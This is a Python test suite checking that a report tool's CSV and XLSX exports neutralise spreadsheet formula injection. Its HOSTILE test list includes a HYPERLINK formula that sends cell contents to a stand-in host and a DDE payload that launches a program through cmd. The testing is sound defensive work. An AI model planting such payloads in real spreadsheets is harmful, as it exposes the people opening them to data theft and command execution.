"""Exports cannot carry formulas: CSV cells neutralised as OWASP recommends,
XLSX text always a string cell (pmprb.safe_output, reports/xlsx.py,
the RATL CSV)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from pmprb.safe_output import (FORMULA_START, append_row, clean_text, csv_cell, csv_row, restore_csv_cell,
                                      set_text)
from pmprb.reports import ratl as ratl_report
from pmprb.reports.xlsx import Column, Sheet, write_xlsx

HOSTILE = ['=HYPERLINK("http://contoh.test/?d="&A1, "klik")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0", "#DIV/0!", "#N/A", "teks\x0bdengan\x01kontrol"]


def test_csv_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers():
    assert [csv_cell(v) for v in HOSTILE[:7]] == ["'" + v for v in HOSTILE[:7]]
    assert csv_cell("#N/A") == "#N/A"                       # not a formula in a CSV
    for number in (-3.5, -2, 0, Decimal("-0.25"), "-0.25", "+1", "-1e5", "-1,5", "12"):
        assert csv_cell(number) == number
    for text in ("a=b", "SK no. 188/12", "", None, date(2024, 5, 1), True):
        assert csv_cell(text) == text
    assert [csv_cell(v) for v in ("-", "+", "=", "@", "-x", "- catatan")] == ["'-", "'+", "'=", "'@", "'-x",
                                                                               "'- catatan"]
    assert csv_row(["MP.1.a", "=1+1", -1]) == ["MP.1.a", "'=1+1", -1]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_a_neutralised_text_never_starts_a_formula_and_reads_back_as_written(text):
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_START) or cell == text   # only plain numbers may start with + or -
    if not (text.startswith("'") and text[1:].startswith(FORMULA_START)):
        assert restore_csv_cell(cell) == text


def _all_cells(path):
    wb = load_workbook(path)  # not read-only: data_type of every cell as stored
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_set_text_and_append_row_write_string_cells(tmp_path):
    wb = Workbook()
    ws = wb.active
    append_row(ws, ["catatan", "nilai"])
    for i, text in enumerate(HOSTILE):
        append_row(ws, [text, -1.5 * i])
    set_text(ws.cell(row=20, column=1), "=1+1")
    wb.save(tmp_path / "x.xlsx")
    cells = _all_cells(tmp_path / "x.xlsx")
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    assert {c.data_type for c in cells if not isinstance(c.value, str)} == {"n"}
    texts = [c.value for c in cells if c.column == 1]
    # (XML reads a carriage return back as a line feed)
    assert texts[1:-1] == [clean_text(t).replace("\r", "\n") for t in HOSTILE] and texts[-1] == "=1+1"
    assert clean_text("a\x0bb\x00c\td\ne") == "a\ufffdb\ufffdc\td\ne"


def test_every_user_text_cell_of_a_report_workbook_is_a_string(tmp_path):
    columns = [Column("item", "Item"), Column("value", "Nilai", places=2), Column("note", "=Catatan", wrap=True)]
    rows = [{"item": t, "value": Decimal("-3.45") if i % 2 else -2.5, "note": t} for i, t in enumerate(HOSTILE)]
    path = write_xlsx(tmp_path / "r.xlsx", [Sheet("Ringkasan", columns, rows, heading="=Judul",
                                                  notes=["=catatan kaki", "#REF!"])])
    cells = _all_cells(path)
    texts = [c for c in cells if isinstance(c.value, str)]
    assert len(texts) == 1 + 3 + 2 * len(HOSTILE) + 2 and {c.data_type for c in texts} == {"s"}
    numbers = [c for c in cells if not isinstance(c.value, str)]
    assert [c.value for c in numbers] == [-2.5 if i % 2 == 0 else -3.45 for i in range(len(HOSTILE))]
    assert {c.data_type for c in numbers} == {"n"}
    assert load_workbook(path)["Ringkasan"]["A4"].value == HOSTILE[0]      # shown as typed


def test_the_ratl_csv_neutralises_user_text_and_keeps_figures(tmp_path):
    row = {"rank": 1, "criterion": "MP.1.a", "area": "MP", "text": "Tim RB", "value": 0.5, "gain": -0.0125,
           "kelemahan": '=HYPERLINK("http://contoh.test","klik")', "rekomendasi": "-lengkapi SK",
           "rencana_aksi": "@rapat", "output": "SK", "responsible": "+BKPSDM", "target_date": "2024-12-31",
           "state_text": "direncanakan", "done_evidence": None, "unlocks_text": "=MP.1.b", "state_note": "\tcatatan"}
    path = ratl_report.write_csv(tmp_path / "ratl.csv", {"lang": "id", "items": [row]})
    header, line = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    got = dict(zip(header, line))
    assert got["Kelemahan"] == "'" + row["kelemahan"] and got["Rekomendasi"] == "'-lengkapi SK"
    assert got["Rencana aksi"] == "'@rapat" and got["Penanggung jawab"] == "'+BKPSDM"
    assert got["Catatan status"] == "'\tcatatan"
    assert "'=MP.1.b" in line
    assert got["Nilai"] == "0.50" and got["Potensi kenaikan (poin)"] == "-0.0125"   # figures stay figures
